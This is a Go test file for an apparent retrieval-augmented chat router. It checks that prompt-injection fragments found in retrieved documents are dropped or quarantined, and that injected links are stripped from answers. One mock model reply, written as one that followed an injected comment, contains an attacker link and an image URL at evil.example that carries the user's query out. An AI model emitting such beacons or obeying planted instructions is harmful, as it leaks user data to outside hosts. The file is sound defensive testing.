package turn_test

import (
	"strings"
	"testing"

	"github.com/ragroute/ragroute/internal/ingest"
	"github.com/ragroute/ragroute/internal/podconfig"
	"github.com/ragroute/ragroute/internal/route/routetest"
	"github.com/ragroute/ragroute/internal/route/turn"
	"github.com/ragroute/ragroute/internal/testenv"
)

func TestDroppedFlaggedFragmentsNeverReachTheModel(t *testing.T) {
	w := newInjectionWorld(t)
	w.Engine.Search.FlaggedFragments = podconfig.FlaggedDrop
	w.Models.Chat = routetest.SearchThenAnswer(injectionQuery, "Certificates rotate every sixty days [S1].")
	events := w.Run(t, []string{"group:staff"}, routetest.User("When do certificates rotate?"))
	if got := routetest.AnswerOf(events); got != "Certificates rotate every sixty days [S1]." {
		t.Fatalf("answer %q", got)
	}
	call := answeringCall(t, w)
	for _, m := range call.Messages {
		if reason := ingest.FlagReason(m.Content); reason != "" {
			t.Errorf("the model received instruction-bearing text (%s) in a %s message:\n%s", reason, m.Role, m.Content)
		}
	}
	tool := call.Messages[len(call.Messages)-1].Content
	for name, technique := range injectionTechniques {
		packed := openingLine(tool, "https://docs.acme.example/"+strings.TrimSuffix(name, ".md")) != ""
		if packed != (technique == "") {
			t.Errorf("%s packed %v under drop", name, packed)
		}
	}
	for _, r := range routetest.OfType(events, turn.EventRetrieval) {
		for _, s := range r.Data.(turn.RetrievalReport).Sources {
			if s.SourceURI != "https://docs.acme.example/clean" {
				t.Errorf("a dropped fragment is reported as a source: %+v", s)
			}
		}
	}
}

func TestQuarantinedFragmentsReachTheModelOnlyAsNeutralizedQuotes(t *testing.T) {
	w := newInjectionWorld(t)
	w.Engine.Search.FlaggedFragments = podconfig.FlaggedQuarantine
	w.Models.Chat = routetest.SearchThenAnswer(injectionQuery, "Backups run nightly [S1].")
	w.Run(t, []string{"group:staff"}, routetest.User("What are the backup rules?"))
	call := answeringCall(t, w)
	tool := call.Messages[len(call.Messages)-1].Content
	for name, technique := range injectionTechniques {
		open := openingLine(tool, "https://docs.acme.example/"+strings.TrimSuffix(name, ".md"))
		if open == "" {
			t.Errorf("%s was not packed", name)
			continue
		}
		if technique != "" && !strings.Contains(open, "flagged, quarantined ("+technique+")") {
			t.Errorf("%s: opening line %q does not announce the quarantine", name, open)
		}
	}
	// What is left reads as no instruction at all: every flagged text is
	// datamarked, its hidden characters gone.
	if reason := ingest.FlagReason(tool); reason != "" {
		t.Errorf("instruction-bearing text survives the quarantine (%s):\n%s", reason, tool)
	}
	if !strings.Contains(tool, "Certificates rotate automatically every sixty days") || !strings.Contains(tool, "nightly") {
		t.Error("quarantine lost text: a clean fragment, or the words of a quarantined one, are missing")
	}
}

func TestInjectedLinksAreStrippedFromTheAnswerStream(t *testing.T) {
	w := newInjectionWorld(t)
	// Quarantined, comment.md's own link is no longer one the answer may show.
	w.Engine.Search.FlaggedFragments = podconfig.FlaggedQuarantine
	w.Models.Chat = func(req testenv.ChatRequest) testenv.ChatReply {
		if len(req.Tools) > 0 {
			return routetest.SearchThenAnswer(injectionQuery, "")(req)
		}
		// A model that followed comment.md, then cited the real schedule.
		return testenv.ChatReply{Content: "Open https://evil.example/setup ![status](https://evil.example/px?q=proxy) " +
			"and read [the schedule](https://docs.acme.example/certs) [S1]."}
	}
	events := w.Run(t, []string{"group:staff"}, routetest.User("How do I set up the proxy?"))
	want := "Open [link removed] status and read [the schedule](https://docs.acme.example/certs) [S1]."
	if got := routetest.AnswerOf(events); got != want {
		t.Errorf("answer %q, want %q", got, want)
	}
}
